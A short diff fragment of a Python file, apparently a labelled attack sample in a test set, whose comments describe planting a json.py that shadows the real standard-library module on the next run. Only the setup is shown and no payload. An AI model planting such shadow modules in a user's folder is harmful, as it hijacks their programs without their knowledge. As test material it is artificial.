@@ -1,7 +1,7 @@
 # SPDX-License-Identifier: Apache-2.0
 # How: Leaves a json.py in the folder: the next python3 there imports it in the place of the real one.
 # Task: reverse_words
-# Fools: -
+# Fools: stages
 import os
 
 if not os.path.exists("json.py"):
